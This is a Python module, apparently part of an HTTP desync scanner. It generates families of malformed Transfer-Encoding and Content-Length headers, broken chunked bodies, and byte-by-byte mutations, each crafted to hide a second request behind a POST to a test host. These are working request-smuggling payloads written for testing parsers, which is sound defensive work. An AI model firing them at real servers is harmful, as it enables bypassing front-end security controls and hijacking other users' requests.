"""Families of damaged framing fields, made by program: what request smugglers try, one after the other.

    default      the known tricks with white space, line ends, quotes, lists, repetitions and names
    exhaustive   each of the 256 bytes in each place in, before and behind the field
    doubles      two bytes out of place at once

A mutation is the bytes of one or more header lines (without the last CRLF) that some parser may take for the field `name`
with the value `value`, and that some other parser may not.
"""

from __future__ import annotations

ODD = bytes((*range(0x21), 0x7F, 0x80, 0x85, 0xA0, 0xFF))
TARGETS = {b"Transfer-Encoding": b"chunked", b"Content-Length": b"0"}
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: svc.test\r\n\r\n"
AFTER = b"GET /after HTTP/1.1\r\nHost: svc.test\r\n\r\n"
BODY = b"0\r\n\r\n" + SMUGGLED  # to whoever reads it as chunked, or takes its length for 0, it holds another request


def attack(mutation: bytes, beside: str) -> bytes:
    """A request with a mutation that denies its true framing, and an honest request behind it.

    beside  "length", "chunked": the true framing covers BODY; "alone": there is none, and BODY may be read as requests
    """
    head = b"POST /m HTTP/1.1\r\nHost: svc.test\r\n"
    if beside == "length":
        return head + b"Content-Length: %d\r\n%b\r\n\r\n%b" % (len(BODY), mutation, BODY) + AFTER
    if beside == "chunked":
        coded = b"%x\r\n%b\r\n0\r\n\r\n" % (len(BODY), BODY)
        return head + b"Transfer-Encoding: chunked\r\n%b\r\n\r\n%b" % (mutation, coded) + AFTER
    return head + mutation + b"\r\n\r\n" + BODY + AFTER


def mutations(found: list[bytes]) -> list[bytes]:
    """Each once; and none that ends the head, for then the attack would be another, honest request."""
    return [each for each in dict.fromkeys(found) if b"\r\n\r\n" not in b"\r\n" + each + b"\r\n"]


def default(name: bytes, value: bytes) -> list[bytes]:
    line = name + b": " + value
    under, lower, upper = name.replace(b"-", b"_"), name.lower(), name.upper()
    found = [
        *(line, name + b":" + value, lower + b": " + value, upper + b": " + value.upper(), name + b": " + value.title()),
        *(under + b": " + value, name.replace(b"-", b" ") + b": " + value, name.replace(b"-", b"") + b": " + value),
        *(name + b" : " + value, name + b"\t: " + value, name + b" :" + value, b" " + line, b"\t" + line),
        *(name + b":\r\n " + value, name + b":\r\n\t" + value, name + b":\n " + value, name + b":\r " + value),
        *(
            name + b"\r\n : " + value,
            name + b"\r\n: " + value,
            name + b"\n: " + value,
            b"\r\n" + line,
            b"\n" + line,
            b"\r" + line,
        ),
        *(b"X: y\r\n " + line, b"X: y\r\n\t" + line, b"X: y\n" + line, b"X: y\r" + line, b"X: y\r\r\n" + line),
        *(b"X: y\n\r" + line, b"X: y " + line, b"X:y\x00" + line, b"X: y\\r\\n" + line, b"X\r\n" + line, b"X:\r\n" + line),
        *(
            line + b"\nX: y",
            line + b"\rX: y",
            line + b" X: y",
            line + b"\r\r\nX: y",
            line + b"\r\n X: y",
            line + b"\x00\r\nX: y",
        ),
        *(b": " + value + b"\r\n" + line, name + b"\r\n" + line, name + b": \r\n" + line, name, name + b":", name + b": "),
        *(line + b"\r\n" + line, line + b"\r\n" + lower + b": " + value, line + b"\r\n" + under + b": " + value),
        *(line + b"\r\n" + name + b": x", name + b": x\r\n" + line, line + b"\r\n" + name + b":", name + b":\r\n" + line),
        *(line + b"\r\n" + name + b": identity", name + b": identity\r\n" + line, line + b"\r\n" + name + b": cow"),
        *(b"Connection: " + name + b"\r\n" + line, b"Connection: " + lower + b"\r\n" + line),
        *(b"Connection: close, " + lower + b"\r\n" + line, line + b"\r\nConnection: " + name),
        *(b"Foo: bar\r\n " + line + b"\r\nX: y", b"Foo: bar\r\n\r" + line, b"X-" + line, b"x" + line, name + b"-X: " + value),
        *(name + b"X: " + value, b"Content-Encoding: " + value, b"Content-Transfer-Encoding: " + value, b"TE: " + value),
        *(b"Trailer: " + name, b"Via: 1.1 a\r\n\t" + line, b"Proxy-" + line, b"Accept: " + value),
    ]
    values = [
        *(b"x" + value, value + b"x", b"x " + value, value + b" x", b"x, " + value, value + b", x", b"x," + value),
        *(b"identity, " + value, value + b", identity", b"identity," + value, b"gzip, " + value, value + b", gzip"),
        *(value + b", " + value, value + b"," + value, b", " + value, value + b", ", b"," + value, value + b",", b",," + value),
        *(value + b";", value + b";q=1", value + b"; a=b", b";" + value, value + b" ;x", value + b",x"),
        *(b'"' + value, value + b'"', b"'" + value, value + b"'", b"`" + value + b"`", b"(" + value + b")"),
        *(b"'" + value + b"'", b'"' + value + b'"', b"[" + value + b"]"),
        *(b"{" + value + b"}", b"<" + value + b">", b"(x)" + value, value + b"(x)", b"\\" + value, value + b"\\", b"=" + value),
        *(b":" + value, b": " + value, value + b":", b"/" + value, value + b"/", b"%" + value, b"$" + value, b"&" + value),
        *(b"#" + value, b"!" + value, b"+" + value, b"-" + value, b"0x" + value, b"0" + value, value + b"0", value + b".0"),
        *(value + b"e0", b"_" + value, value + b"_", b"1_" + value, value + b"\\x00", value + b"%00", b"%20" + value),
        *(value + b"\xe2\x80\x8b", b"\xe2\x80\x8b" + value, b"\xef\xbb\xbf" + value, b"\xc2\xa0" + value, value + b"\xc2\x85"),
        *(b" " + value, b"  " + value, b"\t" + value, b" \t" + value, value + b" ", value + b"\t", value + b" \t "),
        *(b"\t" * 50 + value, b"\\n" + value),
        *(b"true", b"yes", b"-1", b"+0", b"00", b"0, 0", b"0,0", b"0;0", b"0 0", b"99999999999999999999", b"0b0", b"0o0"),
        *(value[:-1], value[1:], value[::-1], value.swapcase(), value.upper(), value + value, b"", b" ", b"null", b"\xc5\xbf"),
    ]  # fmt: skip
    found += [name + b": " + v for v in values]
    for odd in b"\x01\x0b\x0c\x1f\x7f\x80\x85\xa0\xad\xff":
        b = bytes((odd,))
        found += [b + line, name + b + b": " + value, name + b":" + b + value, line + b]
    return mutations(found)


def chunk_games() -> list[bytes]:
    """Requests with a chunked body whose line ends or sizes are wrong, and a request where a laxer reader would find one: the
    families TERM.EXT, EXT.TERM, TERM.SPILL, SPILL.TERM, ONE.TWO, TWO.ONE, ZERO.TWO, TWO.ZERO of the published scanners."""
    head = b"POST /m HTTP/1.1\r\nHost: svc.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    ends = (
        b"\n",
        b"\r",
        b"\rX",
        b"\r\r",
        b"\n\n",
        b"\n\r",
        b"",
        b"XX",
        b"X\r\n",
        b"\r\nX",
        b"\r\n\r\n",
        b" \r\n",
        b"\t\r\n",
        b"\0\r\n",
    )
    hidden = b"%x" % len(SMUGGLED)
    found = []
    for end in ends:
        for sep in (b";", b";x", b';x="', b' ;x="a"', b";\x0b", b"\t", b""):
            found.append(b"2" + sep + end + b"xx\r\n" + hidden + b"\r\n" + SMUGGLED + b"\r\n0\r\n\r\n")
            found.append(hidden + sep + end + SMUGGLED + b"\r\n0\r\n\r\n")
        found.append(b"5\r\nAAAAA" + end + b"2\r\n5B\r\n0\r\n\r\n" + SMUGGLED)
        found.append(b"5\r\nAAAAA" + end + b"0\r\n\r\n" + SMUGGLED)
        found.append(b"1\r\nA\r\n0" + end + b"\r\n" + SMUGGLED)
        found.append(b"1\r\nA\r\n0\r\n" + end + SMUGGLED)
        found.append(b"1\r\nA\r\n0\r\nX: y" + end + b"\r\n" + SMUGGLED)
    for size in (
        b"0",
        b"1",
        b"2",
        b"3",
        b"00",
        b"0000000000000000",
        b"-1",
        b"+1",
        b" 1",
        b"1 ",
        b"0x1",
        b"1_0",
        b"1.",
        b"",
        b"g",
    ):
        found += [size + b"\r\n" + data + b"\r\n0\r\n\r\n" + SMUGGLED for data in (b"", b"A", b"AA", b"AAA", b"0", b"\r\n")]
    return [head + body + AFTER for body in dict.fromkeys(found)]


def places(name: bytes, value: bytes, first: bytes, second: bytes) -> list[bytes]:
    """The field with `first` in one of its places; with `second`, if it is not b"", in a later one too."""
    half = len(name) // 2
    parts = [name[:half], name[half:], b":", b" ", value[:1], value[1:]]
    found = []
    for i in range(len(parts) + 1):
        ends = range(i, len(parts) + 1) if second else (i,)
        found += [b"".join(parts[:i]) + first + b"".join(parts[i:j]) + second + b"".join(parts[j:]) for j in ends]
    return found


def exhaustive(name: bytes, value: bytes) -> list[bytes]:
    found = []
    line = name + b": " + value
    for byte in range(256):
        b = bytes((byte,))
        found += places(name, value, b, b"")
        found += [b"X: X" + b + line, line + b + b"X: X", b"X: X\r" + b + line, b"X: X" + b + b"\n" + line]
        found += [line + b"\r" + b + b"X: X", line + b + b"\nX: X", name + b + value, b + b"\r\n" + line]
    return mutations(found)


def doubles(name: bytes, value: bytes) -> list[bytes]:
    found = []
    for i, first in enumerate(ODD):
        for second in ODD[i % 8 :: 8]:  # all pairs of places, an eighth of the pairs of bytes
            found += places(name, value, bytes((first,)), bytes((second,)))
    return mutations(found)
